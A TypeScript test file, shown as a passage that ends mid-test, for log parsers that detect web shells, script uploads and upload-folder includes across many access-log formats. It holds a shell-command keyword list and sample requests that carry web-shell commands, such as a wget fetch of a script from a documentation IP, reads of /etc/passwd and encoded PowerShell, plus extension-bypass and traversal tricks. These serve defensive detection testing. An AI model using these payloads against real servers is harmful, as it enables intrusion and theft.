import { describe, expect, it } from 'vitest';
import { SERVER_SCRIPT_EXTENSIONS } from '../../inspect/filetypes.js';
import { analyzeName, decodeRepeatedly } from '../../inspect/names.js';
import fc from '../../test-support/fast-check.js';
import { DEFAULT_UPLOAD_PATH, parseCombinedLine } from './combined.js';
import { parseElbLine } from './elb.js';
import { parseEnvoyLine } from './envoy.js';
import { detectFormat } from './formats.js';
import { parseHaproxyLine } from './haproxy.js';
import { parseFieldMapping, parseJsonLine } from './jsonl.js';
import { parseLogfmtLine } from './logfmt.js';
import { parseS3AccessLine } from './s3-access.js';
import { parseW3cLine, w3c } from './w3c.js';

/** The parameters and command words a web shell's user sends, as the parser's plain definition. */
const COMMAND_KEYS = ['cmd', 'c', 'x', 'exec', 'execute', 'command', 'shell', 'system', 'run'];
const COMMAND_WORDS = (
  'id whoami uname hostname pwd ls dir cat type echo ps tasklist systeminfo ipconfig ifconfig netstat wget curl ' +
  'nc ncat bash sh python python2 python3 perl php ruby powershell pwsh cmd cmd.exe certutil bitsadmin chmod find ' +
  'cd rm mkdir touch base64'
).split(' ');

describe('JSON Lines records', () => {
  it.each([
    [
      'snake_case',
      {
        original_filename: 'a.jpg',
        stored_path: 's/a.jpg',
        size: 10,
        content_type: 'image/jpeg',
        user: 'u',
        ip: '1.2.3.4',
        timestamp: 't',
        sha256: 'h',
        status: 'stored',
      },
    ],
    [
      'camelCase',
      {
        originalName: 'a.jpg',
        storedPath: 's/a.jpg',
        bytes: 10,
        contentType: 'image/jpeg',
        userId: 'u',
        clientIp: '1.2.3.4',
        time: 't',
        hash: 'h',
        result: 'stored',
      },
    ],
    [
      'short names',
      {
        filename: 'a.jpg',
        path: 's/a.jpg',
        size: '10',
        mimetype: 'image/jpeg',
        user: 'u',
        remote_addr: '1.2.3.4',
        ts: 't',
        sha256: 'h',
        status: 201,
      },
    ],
  ])('recognizes %s field spellings', (_label, object) => {
    expect(parseJsonLine(JSON.stringify(object), {})).toEqual({
      filename: 'a.jpg',
      storedPath: 's/a.jpg',
      size: 10,
      contentType: 'image/jpeg',
      user: 'u',
      client: '1.2.3.4',
      timestamp: 't',
      sha256: 'h',
      accepted: true,
    });
  });

  it.each([
    [{ status: 'rejected' }, false],
    [{ status: 403 }, false],
    [{ rejected: true }, false],
    [{ accepted: false }, false],
    [{ stored: true }, true],
    [{ status: 'weird' }, undefined],
  ])('reads the outcome from %j', (status, accepted) => {
    expect(
      (parseJsonLine(JSON.stringify({ filename: 'a.jpg', ...status }), {}) as { accepted?: boolean })
        .accepted,
    ).toBe(accepted);
  });

  it('maps other names with --field, dotted keys included', () => {
    const line = JSON.stringify({ upload: { meta: { clientName: 'x.php' } }, 'content.type': 'image/png' });
    const fields = Object.fromEntries([
      parseFieldMapping('filename=upload.meta.clientName'),
      parseFieldMapping('contentType=content.type'),
    ]);
    expect(parseJsonLine(line, fields)).toEqual({ filename: 'x.php', contentType: 'image/png' });
    expect(() => parseFieldMapping('bogus=x')).toThrow(/NAME one of filename/);
  });

  it.each([
    ['{not json', 'not valid JSON'],
    ['[1,2]', 'not a JSON object'],
    ['"x"', 'not a JSON object'],
    ['{"user":"u"}', 'no filename or stored path field'],
    ['{"filename":"a.jpg","size":{"toString":""}}', "field 'size' holds an object, not a number"],
    ['{"filename":{"valueOf":1},"size":1}', "field 'filename' holds an object, not text"],
    ['{"filename":"a.jpg","content_type":["image/png"]}', "field 'content_type' holds a list, not text"],
  ])('rejects %s', (line, reason) => {
    expect(parseJsonLine(line, {})).toBe(reason);
  });
});

describe('JSON access logs (no upload record: a request, judged as combined lines are)', () => {
  const uploads = new RegExp(DEFAULT_UPLOAD_PATH, 'i');
  const parse = (object: unknown) => parseJsonLine(JSON.stringify(object), {}, uploads);
  it.each([
    [
      'Caddy',
      {
        ts: 1.7e9,
        request: { remote_ip: '203.0.113.5', method: 'GET', uri: '/uploads/s.php?cmd=id' },
        status: 200,
      },
      { client: '203.0.113.5', executed: { method: 'GET', status: 200, script: 's.php' } },
    ],
    [
      'Traefik',
      {
        ClientHost: '203.0.113.6',
        RequestMethod: 'GET',
        RequestPath: '/media/a.jpg?c=whoami',
        DownstreamStatus: 200,
      },
      { executed: { script: 'a.jpg', command: 'c=whoami' } },
    ],
    [
      "nginx's whole request line",
      { remote_addr: '203.0.113.7', request: 'POST /upload?filename=x.phtml HTTP/1.1', status: '201' },
      { filename: 'x.phtml', accepted: true },
    ],
    [
      "Google Cloud's httpRequest, an absolute URL",
      {
        httpRequest: {
          requestMethod: 'GET',
          requestUrl: 'https://example.com/i.php?p=../uploads/a.jpg',
          status: 200,
        },
      },
      { executed: { script: 'a.jpg', include: { page: '/i.php' } } },
    ],
    [
      'Elastic Common Schema',
      {
        '@timestamp': 't',
        // ECS writes the client and the user as objects.
        client: { ip: '203.0.113.9' },
        user: { name: 'u' },
        http: { request: { method: 'GET' }, response: { status_code: 200 } },
        url: { original: '/files/x.aspx' },
      },
      { client: '203.0.113.9', executed: { script: 'x.aspx', status: 200 } },
    ],
    [
      "Cloudflare's Logpush",
      {
        ClientIP: '203.0.113.10',
        ClientRequestMethod: 'GET',
        ClientRequestURI: '/wp-content/uploads/2024/x.php',
        EdgeResponseStatus: 200,
        EdgeStartTimestamp: '2024-03-15T02:31:55Z',
      },
      { client: '203.0.113.10', executed: { script: '2024/x.php', status: 200 } },
    ],
    [
      "Azure's Application Gateway",
      {
        time: '2024-03-15T02:31:55Z',
        properties: {
          clientIP: '203.0.113.11',
          httpMethod: 'POST',
          requestUri: '/upload?filename=a.aspx',
          httpStatus: 200,
        },
      },
      { client: '203.0.113.11', filename: 'a.aspx', accepted: true },
    ],
    [
      "Azure's Front Door (an absolute URL)",
      {
        properties: {
          clientIp: '203.0.113.12',
          httpMethod: 'GET',
          requestUri: 'https://example.com:443/uploads/cmd.ashx?cmd=whoami',
          httpStatusCode: '200',
        },
      },
      { client: '203.0.113.12', executed: { script: 'cmd.ashx', status: 200 } },
    ],
  ])('%s', (_label, object, expected) => {
    expect(parse(object)).toMatchObject(expected);
  });

  it('a request that is no upload and runs nothing is no record', () => {
    expect(parse({ request: { method: 'GET', uri: '/uploads/photo.jpg' }, status: 200 })).toBeUndefined();
    expect(parse({ msg: 'started' })).toBe('no filename or stored path field');
  });
});

describe('combined access logs', () => {
  const uploads = new RegExp(DEFAULT_UPLOAD_PATH, 'i');
  const line = (request: string, status = 201) =>
    `192.0.2.1 - bob [15/Mar/2024:02:31:55 +0000] "${request} HTTP/1.1" ${status} 12 "-" "curl"`;

  it.each([
    ['GET /uploads/a.jpg', undefined],
    ['POST /login', undefined],
    ['POST /upload?filename=a.jpg', 'a.jpg'],
    ['POST /upload?foo=1&file=b.png', 'b.png'],
    ['POST /api/files?name=x.php%2500.jpg', 'x.php%2500.jpg'],
    ['PUT /uploads/2024/photo.v2.jpg', 'photo.v2.jpg'],
    ['PUT /uploads/..%2f..%2fetc%2fpasswd', '..%2f..%2fetc%2fpasswd'],
    ['PUT /dav/uploads/../../x.php', '../../x.php'],
    ['PUT /uploads/..;/WEB-INF/web.xml', '..;/WEB-INF/web.xml'],
    ['POST /upload.php?file=cv.pdf', 'cv.pdf'],
    ['POST /upload', undefined],
    // The endpoint itself: the file's name is in the body, not in the log.
    ['POST /upload.php', undefined],
    ['POST /api/v2/files.json', undefined],
    ['POST /uploads/photo 1.jpg', 'photo 1.jpg'],
  ])('%s → %s', (request, filename) => {
    const record = parseCombinedLine(line(request), uploads);
    if (request.startsWith('GET') || request.includes('login')) expect(record).toBeUndefined();
    else expect(typeof record === 'object' ? record.filename : record).toBe(filename);
  });

  it.each([
    [
      'GET /uploads/2024/05/shell.php?cmd=id',
      200,
      { method: 'GET', status: 200, script: '2024/05/shell.php' },
    ],
    ['POST /media/x/c99.PHTML', 200, { method: 'POST', status: 200, script: 'x/c99.PHTML' }],
    ['GET /uploads/a/sh%2ephp', 404, { method: 'GET', status: 404, script: 'a/sh%2ephp' }],
    ['GET /files/cmd.aspx?c=dir', 302, { method: 'GET', status: 302, script: 'cmd.aspx' }],
    // Names whose script extension a trick hides from an extension check, not from the server.
    ['GET /uploads/img.php;.jpg', 200, { method: 'GET', status: 200, script: 'img.php;.jpg' }],
    ['GET /uploads/x.asp%00.png', 200, { method: 'GET', status: 200, script: 'x.asp%00.png' }],
    ['GET /uploads/x.php::$DATA', 200, { method: 'GET', status: 200, script: 'x.php::$DATA' }],
    // The folders well-known applications upload into.
    ['GET /UserFiles/File/shell.php', 200, { method: 'GET', status: 200, script: 'File/shell.php' }],
    ['POST /fileadmin/user_upload/x.php', 200, { method: 'POST', status: 200, script: 'user_upload/x.php' }],
    ['GET /storage/avatars/a.phtml', 200, { method: 'GET', status: 200, script: 'avatars/a.phtml' }],
  ])('%s answered %i is a script run inside an upload folder', (request, status, executed) => {
    expect(parseCombinedLine(line(request, status), uploads)).toMatchObject({
      executed,
      client: '192.0.2.1',
    });
  });

  it.each([
    'GET /upload.php?step=2',
    'GET /uploads/photo.jpg',
    'GET /index.php?page=uploads',
    'GET /wp-admin/admin.php',
    'POST /api/upload.php',
  ])('%s is no script run inside an upload folder', (request) => {
    const record = parseCombinedLine(line(request, 200), uploads);
    expect(typeof record === 'object' ? record.executed : record).toBeUndefined();
  });

  it.each([
    ['an empty request', '"-" 400 0'],
    ['a TLS handshake sent to a plain port', '"\\x16\\x03\\x01\\x02\\x00\\x01" 400 157'],
    ['a request line without a target', '"POST" 400 0'],
    ['a quote escaped inside the request', '"GET /a\\"b HTTP/1.1" 404 0'],
  ])('a line with %s is a combined line, and no upload', (_, rest) => {
    expect(parseCombinedLine(`198.51.100.7 - - [10/Oct/2024:13:56:07 +0000] ${rest} "-" "-"`, uploads)).toBe(
      undefined,
    );
  });

  it("reads Apache's vhost_combined (a vhost:port field first), and a raw space in the target", () => {
    const vhost = 'example.com:443 2001:db8::1 - - [10/Oct/2024:13:56:15 +0000]';
    expect(parseCombinedLine(`${vhost} "GET /uploads/v.php HTTP/1.1" 200 45 "-" "-"`, uploads)).toMatchObject(
      {
        client: '2001:db8::1',
        executed: { method: 'GET', status: 200, script: 'v.php' },
      },
    );
    expect(parseCombinedLine(line('GET /uploads/a b.php', 200), uploads)).toMatchObject({
      executed: { script: 'a b.php' },
    });
  });

  it('reads a client logged as an X-Forwarded-For list, naming the first address', () => {
    const at = '[22/Aug/2017:17:43:56 +0000] "GET /uploads/x.php?cmd=id HTTP/1.1" 200 120 "-" "curl/8"';
    expect(parseCombinedLine(`203.0.113.5, 10.0.0.1 - - ${at}`, uploads)).toMatchObject({
      client: '203.0.113.5',
      executed: { script: 'x.php' },
    });
    expect(
      parseCombinedLine(
        `203.0.113.6, 10.0.0.2, 10.0.0.3 - bob [t] "PUT /uploads/y.php HTTP/1.1" 201 9`,
        uploads,
      ),
    ).toMatchObject({ client: '203.0.113.6', user: 'bob', filename: 'y.php' });
  });

  it('reads nginx lines that log the host between the time and the request', () => {
    const at = '205.197.2.175 - - [22/Aug/2017:17:43:56 +0000] www.example.com';
    expect(
      parseCombinedLine(`${at} "GET /uploads/x.php?cmd=id HTTP/1.1" 200 120 "-" "curl/8" 0.000`, uploads),
    ).toMatchObject({ client: '205.197.2.175', executed: { status: 200, script: 'x.php' } });
    expect(
      parseCombinedLine(`${at} "POST /upload?filename=a.php HTTP/1.1" 201 9 "-" "curl/8"`, uploads),
    ).toMatchObject({ filename: 'a.php', accepted: true });
    expect(parseCombinedLine(`${at} "GET /uploads/a.jpg HTTP/1.1" 200 9 "-" "-"`, uploads)).toBe(undefined);
    // two fields there is not a combined line
    expect(typeof parseCombinedLine(`${at} extra "GET / HTTP/1.1" 200 9`, uploads)).toBe('string');
  });

  it('records who and when, and whether the server accepted it', () => {
    expect(parseCombinedLine(line('POST /upload?filename=a.jpg', 403), uploads)).toMatchObject({
      client: '192.0.2.1',
      user: 'bob',
      timestamp: '15/Mar/2024:02:31:55 +0000',
      accepted: false,
    });
  });

  it.each([
    ['GET /uploads/2024/avatar.jpg?cmd=id', 'cmd=id'],
    ['GET /uploads/shell.gif?c=cat+/etc/passwd', 'c=cat /etc/passwd'],
    ['POST /media/x.png?exec=wget%20http://203.0.113.9/a.sh', 'exec=wget http://203.0.113.9/a.sh'],
    ['GET /files/a.txt?w=1&Command=powershell+-enc+SQBFAFgA', 'Command=powershell -enc SQBFAFgA'],
    ['GET /uploads/a.jpg?x=net%20user', 'x=net user'],
    ['GET /uploads/a.jpg?run=id', 'run=id'],
    ['GET /uploads/a.jpg?SYSTEM=whoami', 'SYSTEM=whoami'],
    ['GET /uploads/a.jpg?shell=ls', 'shell=ls'],
    ['GET /uploads/a.jpg?execute=uname+-a', 'execute=uname -a'],
  ])('%s: a file below an upload folder handed a shell command ran it', (request, command) => {
    expect(parseCombinedLine(line(request, 200), uploads)).toMatchObject({ executed: { command } });
  });

  it.each([
    'GET /uploads/a.jpg?w=200&c=blue',
    'GET /uploads/a.jpg?x=identity',
    'GET /uploads/a.jpg?cmd=identify',
    'GET /search?cmd=id',
    'GET /uploads/a.jpg?q=cat+pictures',
  ])('%s: no shell command handed to an upload', (request) => {
    const record = parseCombinedLine(line(request, 200), uploads);
    expect(typeof record === 'object' ? record.executed : record).toBeUndefined();
  });

  it.each([
    ['GET /index.php?page=../../uploads/avatar.jpg', '/index.php', 'avatar.jpg'],
    ['GET /?inc=..%2f..%2fuploads%2f2024%2fshell.jpg%00&x=1', '/', '2024/shell.jpg'],
    ['GET /view.php?f=phar://uploads/avatar.jpg/x.php', '/view.php', 'avatar.jpg'],
    ['GET /a.php?t=zip://uploads/doc.zip%23shell.php', '/a.php', 'doc.zip'],
    ['GET /index.php?p=..\\..\\media\\a.gif', '/index.php', 'a.gif'],
  ])('%s has a script include an upload', (request, page, script) => {
    expect(parseCombinedLine(line(request, 200), uploads)).toMatchObject({
      executed: { script, include: { page } },
    });
  });

  it('a write whose name parameter (its key encoded) climbs to an upload folder names the upload', () => {
    expect(parseCombinedLine(line('POST /api/save?f%69le=../uploads/x.php', 201), uploads)).toMatchObject({
      filename: '../uploads/x.php',
    });
  });

  it.each([
    'GET /download.php?file=uploads/report.pdf',
    'GET /index.php?page=../../etc/passwd',
    'GET /index.php?page=../about',
    'GET /index.php?page=../uploads/',
  ])('%s includes no upload', (request) => {
    const record = parseCombinedLine(line(request, 200), uploads);
    expect(typeof record === 'object' ? record.executed : record).toBeUndefined();
  });

  it('parses like the plain definition (split, decode every key), on lines built to hit each branch', () => {
    /** The first definition, written for clarity: the fast one must agree with it everywhere. */
    const COMBINED =
      /^(?:[^\s:]+:\d+ )?(\S+(?:, \S+)*) \S+ (\S+) \[([^\]]+)\] (?:[^\s"]+ )?"((?:[^"\\]|\\.)*)" (\d{3}) (?:\d+|-)/;
    const reference = (text: string): ReturnType<typeof parseCombinedLine> => {
      const m = COMBINED.exec(text);
      if (!m) return 'not a combined-format line';
      const [, clients, user, timestamp, request, status] = m as unknown as string[];
      const client = clients!.split(',')[0]!;
      // The request line: a method, a space, a target (spaces kept), maybe a protocol word.
      const words = request!.split(' ');
      const method = words[0];
      if (words.length < 2 || !method || /\s/.test(method)) return undefined;
      if (words.length > 2 && /^HTTP\//i.test(words.at(-1)!)) words.pop();
      const url = words.slice(1).join(' ');
      if (url === '') return undefined;
      const [path = '', query = ''] = url!.split(/\?(.*)/s);
      // Below the upload folder: what follows a match of the upload path that ends in a slash.
      const folder = uploads.exec(path);
      const below =
        folder?.[0].endsWith('/') && path.length > folder.index + folder[0].length
          ? path.slice(folder.index + folder[0].length)
          : undefined;
      const script = below && decodeRepeatedly(below).decoded.split(/[/\\]/).at(-1)!;
      const ext = script?.includes('.') ? script.slice(script.lastIndexOf('.') + 1).toLowerCase() : '';
      const hidden = script === undefined ? undefined : analyzeName(script).effectiveExtension;
      const isScript =
        SERVER_SCRIPT_EXTENSIONS.has(ext) || (hidden !== undefined && SERVER_SCRIPT_EXTENSIONS.has(hidden));
      // A shell command handed to a file below the upload folder: a known command word first.
      const commandPair = query.split('&').find((pair) => {
        const eq = pair.indexOf('=');
        if (eq < 0 || !COMMAND_KEYS.includes(pair.slice(0, eq).toLowerCase())) return false;
        const value = decodeRepeatedly(pair.slice(eq + 1), { plusAsSpace: true }).decoded.trimStart();
        const word = value.split(/[\s;|&`<>]/)[0]!.toLowerCase();
        return word === 'net'
          ? /^net\s+(?:user|localgroup|view)(?:$|[\s;|&`<>])/i.test(value)
          : COMMAND_WORDS.includes(word);
      });
      if (below && (isScript ? !/^(PUT|PATCH)$/i.test(method!) : commandPair !== undefined)) {
        const executed: Record<string, unknown> = {
          method: method!.toUpperCase(),
          status: Number(status),
          script: below,
        };
        if (commandPair !== undefined && !isScript) {
          const eq = commandPair.indexOf('=');
          executed.command = `${commandPair.slice(0, eq)}=${decodeRepeatedly(commandPair.slice(eq + 1), { plusAsSpace: true }).decoded}`;
        }
        const run: Record<string, unknown> = { client, timestamp, requestPath: path, executed };
        if (user !== '-') run.user = user;
        return run;
      }
      // A script elsewhere made to include a file below the upload folder, by a query value that
      // climbs to it or opens it through phar:// or zip://.
      if (below === undefined && url!.includes('?')) {
        for (const pair of query.split('&')) {
          const eq = pair.indexOf('=');
          if (eq < 0) continue;
          const nameKey = ['filename', 'file', 'name', 'fname', 'upload', 'path', 'key'].includes(
            decodeRepeatedly(pair.slice(0, eq), { plusAsSpace: true }).decoded.toLowerCase(),
          );
          if (nameKey && /^(POST|PUT|PATCH)$/i.test(method!)) continue;
          const value = decodeRepeatedly(pair.slice(eq + 1), { plusAsSpace: true }).decoded.replaceAll(
            '\\',
            '/',
          );
          const wrapper = /^(phar|zip):\/\//i.test(value);
          if (!wrapper && !/(^|\/)\.\.\//.test(value)) continue;
          const folder = uploads.exec(value);
          if (!folder?.[0].endsWith('/')) continue;
          let target = value.slice(folder.index).split(/[\0#]/)[0]!;
          const rest = target.slice(folder[0].length);
          const named = wrapper ? rest.split('/').findIndex((part) => part.includes('.')) : -1;
          if (named >= 0)
            target =
              folder[0] +
              rest
                .split('/')
                .slice(0, named + 1)
                .join('/');
          if (target.length === folder[0].length) continue;
          const run: Record<string, unknown> = {
            client,
            timestamp,
            requestPath: target,
            executed: {
              method: method!.toUpperCase(),
              status: Number(status),
              script: target.slice(folder[0].length),
              include: { page: path, parameter: pair },
            },
          };
          if (user !== '-') run.user = user;
          return run;
        }
      }
      if (!/^(POST|PUT|PATCH)$/i.test(method!) || !uploads.test(url!)) return undefined;
      const record: Record<string, unknown> = {
        client,
        timestamp,
        requestPath: path,
        accepted: status!.startsWith('2'),
      };
      if (user !== '-') record.user = user;
      for (const pair of query.split('&')) {
        const eq = pair.indexOf('=');
        const key = decodeRepeatedly(eq < 0 ? pair : pair.slice(0, eq), { plusAsSpace: true }).decoded;
        if (
          eq >= 0 &&
          ['filename', 'file', 'name', 'fname', 'upload', 'path', 'key'].includes(key.toLowerCase())
        ) {
          record.filename = pair.slice(eq + 1);
          break;
        }
      }
      if (
        record.filename === undefined &&
        below &&
        /(^|[/\\])\.\.([/\\]|$)/.test(decodeRepeatedly(below).decoded)
      )
        record.filename = below;
      const endpoint = uploads.exec(path);
      const atEndpoint =
        endpoint !== null &&
        !endpoint[0].endsWith('/') &&
        endpoint.index + endpoint[0].length === path.length;
      if (record.filename === undefined && !atEndpoint) {
        const decoded = decodeRepeatedly(path.split('/').at(-1) ?? '').decoded;
        if (/\.[^./\\]+$/.test(decoded) || /[/\\]|\.\./.test(decoded))
          record.filename = path.split('/').at(-1);
      }
      return record;
    };
    const piece = fc.oneof(
      fc.constantFrom(
        '/',
        '?',
        '&',
        '=',
        '%',
        '+',
        '.',
        '..',
        '%2e',
        '%2F',
        '\\',
        '%00',
        'K',
        '\u212a',
        '\ud800',
      ),
      fc.constantFrom(
        'upload',
        'uploads/',
        'media/',
        'FileName',
        'F%69le',
        'na+me',
        'key',
        'PATH',
        'x.php',
        'a.jpg',
        'cmd=',
        'C=',
        'id',
        'ls+-la',
        'net%20user',
        'phar://',
        '../',
        '#',
      ),
      fc.string({ maxLength: 6 }),
    );
    const url = fc.array(piece, { maxLength: 12 }).map((parts) => `/${parts.join('')}`);
    const method = fc.constantFrom('POST', 'post', 'PuT', 'PATCH', 'GET', 'DELETE', 'POSTX');
    const user = fc.constantFrom('-', 'bob');
    const status = fc.constantFrom('201', '200', '403', '500');
    const built = fc
      .tuple(method, url, user, status)
      .map(
        ([m, u, who, st]) =>
          `192.0.2.1 - ${who} [15/Mar/2024:02:31:55 +0000] "${m} ${u} HTTP/1.1" ${st} 12 "-" "x"`,
      );
    // A built line with one character put in or replaced anywhere: spaces of other kinds, quotes
    // and brackets where fields end, a method that starts like a write.
    const mangled = fc
      .tuple(
        built,
        fc.nat(),
        fc.boolean(),
        fc.constantFrom(' ', '\t', '\u00a0', '\u2028', '"', ']', '[', '-', '7', 'P', 'POST '),
      )
      .map(([text, at, replace, put]) => {
        const i = at % (text.length + 1);
        return text.slice(0, i) + put + text.slice(replace ? i + 1 : i);
      });
    const methods = fc.constantFrom('POST', 'put', 'PATCH', 'GET', 'HEAD', 'POSTS', 'PU', '"POST');
    const odd = fc
      .tuple(methods, fc.constantFrom('/upload?name=a.php', '/uploads/x"y.php', '/files/a b.jpg'))
      .chain(([m, u]) =>
        fc.constantFrom(
          `1.2.3.4 - - [t] "${m} ${u}" 201 -`,
          `1.2.3.4 - - [t] "${m} ${u} HTTP/1.1" 2010 5`,
          `1.2.3.4 - - [t] "${m} ${u} HTTP/1.1"x" 201 5`,
          `1.2.3.4 - - [t] "${m} ${u} HTTP/1.1" 201 x`,
          `1.2.3.4 -  - [t] "${m} ${u} HTTP/1.1" 201 5`,
          `1.2.3.4 -  [t] "${m} ${u} HTTP/1.1" 201 5`,
          `1.2.3.4 - - [t] "${m} ${u} HTTP/1.1 201 5`,
          `1.2.3.4 - - [] "${m} ${u} HTTP/1.1" 201 5`,
          `1.2.3.4 - - [a]b] "${m} ${u} HTTP/1.1" 201 5`,
          `1.2.3.4 - - [t] "${m}\t${u} HTTP/1.1" 201 5`,
        ),
      );
    fc.assert(
      fc.property(fc.oneof(built, mangled, odd, fc.string()), (text) => {
        expect(parseCombinedLine(text, uploads)).toEqual(reference(text));
      }),
      { numRuns: 3000 },
    );
  });

  it('detects the format from the first line', () => {
    expect(detectFormat('{"filename":"a"}')).toBe('jsonl');
    expect(detectFormat(line('GET /'))).toBe('combined');
    expect(detectFormat('garbage')).toBeUndefined();
  });
});

describe('W3C extended (IIS) logs', () => {
  const uploads = new RegExp(DEFAULT_UPLOAD_PATH, 'i');
  const iis = (method: string, stem: string, query = '-', status = 200) =>
    `2024-10-10 13:55:38 10.0.0.5 ${method} ${stem} ${query} 443 - 198.51.100.7 curl/8.0 - ${status} 0 0 31`;

  it('is recognized by the directives IIS writes first, or a line in its default shape', () => {
    expect(detectFormat('#Software: Microsoft Internet Information Services 10.0')).toBe('w3c');
    expect(detectFormat('#Fields: date time cs-method cs-uri-stem')).toBe('w3c');
    expect(detectFormat(iis('GET', '/'))).toBe('w3c');
    expect(w3c.whole).toBe(true);
  });

  it('reads lines in IIS default order before any #Fields directive', () => {
    expect(parseW3cLine(iis('GET', '/uploads/2024/cmd.aspx', 'cmd=whoami'), uploads, {})).toMatchObject({
      client: '198.51.100.7',
      timestamp: '2024-10-10 13:55:38',
      executed: { method: 'GET', status: 200, script: '2024/cmd.aspx' },
    });
    expect(parseW3cLine(iis('POST', '/api/files', 'filename=../x.aspx', 201), uploads, {})).toMatchObject({
      filename: '../x.aspx',
      accepted: true,
    });
    expect(parseW3cLine(iis('GET', '/uploads/photo.jpg'), uploads, {})).toBeUndefined();
  });

  it('reads the lines after a #Fields directive in its order, and says which lines do not fit it', () => {
    const state = {};
    expect(
      parseW3cLine('#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip sc-status', uploads, state),
    ).toBe(undefined);
    expect(
      parseW3cLine('2024-10-10 13:56:00 GET /images/x.asp;.jpg - 198.51.100.8 200', uploads, state),
    ).toMatchObject({ executed: { script: 'x.asp;.jpg' } });
    expect(parseW3cLine(iis('GET', '/'), uploads, state)).toMatch(/not a W3C line of the 7 fields/);
    expect(parseW3cLine('2024-10-10 13:56:00 - - - 198.51.100.8 400', uploads, state)).toMatch(
      /without cs-method/,
    );
  });

  it("reads CloudFront's access logs: W3C fields separated by tabs", () => {
    const state = {};
    const fields =
      '#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query';
    expect(detectFormat('#Version: 1.0')).toBe('w3c');
    expect(parseW3cLine(fields, uploads, state)).toBe(undefined);
    const line = (stem: string, query: string) =>
      [
        '2024-10-10',
        '13:56:00',
        'IAD89-C1',
        '512',
        '203.0.113.9',
        'GET',
        'd1.cloudfront.net',
        stem,
        '200',
        '-',
        'curl/8.0',
        query,
      ].join('\t');
    expect(parseW3cLine(line('/uploads/s.php', 'c=id'), uploads, state)).toMatchObject({
      client: '203.0.113.9',
      executed: { method: 'GET', status: 200, script: 's.php' },
    });
    expect(parseW3cLine(line('/uploads/a.jpg', '-'), uploads, state)).toBeUndefined();
  });
});

describe('AWS load balancer logs', () => {
  const uploads = new RegExp(DEFAULT_UPLOAD_PATH, 'i');
  const alb = (request: string, status = '200') =>
    `https 2024-10-10T13:56:00.186641Z app/web/50dc6c495c0c9188 203.0.113.9:2817 10.0.0.1:80 0.000 0.001 0.000 ${status} ${status} 34 366 "${request}" "curl/8.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/web/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "example.com" "-" 0 2024-10-10T13:55:59.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-"`;
  const classic = (request: string) =>
    `2024-10-10T13:56:00.945958Z web 2001:db8::7:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "${request}" "curl/8.0" - -`;

  it('is recognized by its first line, an Application or a Classic Load Balancer', () => {
    expect(detectFormat(alb('GET https://example.com:443/ HTTP/1.1'))).toBe('elb');
    expect(detectFormat(classic('GET http://example.com:80/ HTTP/1.1'))).toBe('elb');
  });

  it.each([
    [
      'a web shell run (ALB)',
      alb('GET https://example.com:443/uploads/s.php?cmd=id HTTP/1.1'),
      {
        client: '203.0.113.9',
        timestamp: '2024-10-10T13:56:00.186641Z',
        executed: { method: 'GET', status: 200, script: 's.php' },
      },
    ],
    [
      'an upload of a script (Classic, an IPv6 client)',
      classic('POST http://example.com:80/upload?filename=x.phtml HTTP/1.1'),
      { client: '2001:db8::7', filename: 'x.phtml', accepted: true, requestPath: '/upload' },
    ],
  ])('%s', (_label, line, expected) => {
    expect(parseElbLine(line, uploads)).toMatchObject(expected);
  });

  it('a read that runs nothing, and a request it could not read, are no records', () => {
    expect(parseElbLine(alb('GET https://example.com:443/uploads/a.jpg HTTP/1.1'), uploads)).toBeUndefined();
    expect(parseElbLine(alb('- - - ', '400'), uploads)).toBeUndefined();
    expect(parseElbLine('not a load balancer line', uploads)).toBe('not a load balancer access log line');
  });
});

describe('Amazon S3 server access logs', () => {
  const line = (operation: string, key: string, status = '200', size = '4711') =>
    `79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be uploads-bucket [06/Feb/2024:00:00:38 +0000] 192.0.2.3 - 3E57427F3EXAMPLE ${operation} ${key} "PUT /uploads-bucket/${key} HTTP/1.1" ${status} - - ${size} 70 10 "-" "aws-cli/2.0" - s9lz= SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader uploads-bucket.s3.amazonaws.com TLSv1.2 - -`;

  it('is recognized by its first line', () => {
    expect(detectFormat(line('REST.PUT.OBJECT', 'a.jpg'))).toBe('s3-access');
  });

  it.each([
    [
      'a PUT of a script',
      line('REST.PUT.OBJECT', 'avatars/shell.php'),
      {
        filename: 'avatars/shell.php',
        storedPath: 'avatars/shell.php',
        size: 4711,
        accepted: true,
        client: '192.0.2.3',
      },
    ],
    [
      'a key written encoded',
      line('REST.POST.OBJECT', 'a/my%20cv.pdf.exe'),
      { storedPath: 'a/my cv.pdf.exe' },
    ],
    ['a refused write', line('REST.PUT.OBJECT', 'x.php', '403', '-'), { accepted: false }],
    [
      'a completed multipart upload',
      line('REST.POST.UPLOAD', 'big/video.mp4', '200', '734003200'),
      { size: 734003200 },
    ],
  ])('%s is an upload', (_label, text, expected) => {
    expect(parseS3AccessLine(text)).toMatchObject(expected);
  });

  it('reads, lists and deletes are no uploads', () => {
    expect(parseS3AccessLine(line('REST.GET.OBJECT', 'shell.php'))).toBeUndefined();
    expect(parseS3AccessLine(line('REST.GET.BUCKET', '-'))).toBeUndefined();
    expect(parseS3AccessLine(line('REST.DELETE.OBJECT', 'a.jpg'))).toBeUndefined();
    expect(parseS3AccessLine('nothing like it')).toBe('not an S3 server access log line');
  });
});

describe('HAProxy HTTP logs', () => {
  const uploads = new RegExp(DEFAULT_UPLOAD_PATH, 'i');
  const line = (request: string, status = '200') =>
    `Feb  6 12:14:14 lb1 haproxy[14389]: 203.0.113.9:33317 [06/Feb/2024:12:14:14.655] http-in static/srv1 10/0/30/69/109 ${status} 2750 - - ---- 1/1/1/1/0 0/0 {example.com} {} "${request}"`;

  it('is recognized by its first line, through syslog or on its own', () => {
    expect(detectFormat(line('GET / HTTP/1.1'))).toBe('haproxy');
    expect(detectFormat(line('GET / HTTP/1.1').replace(/^.*?haproxy\[\d+\]: /, ''))).toBe('haproxy');
  });

  it('judges the request as combined lines are', () => {
    expect(parseHaproxyLine(line('GET /uploads/s.php?cmd=id HTTP/1.1'), uploads)).toMatchObject({
      client: '203.0.113.9',
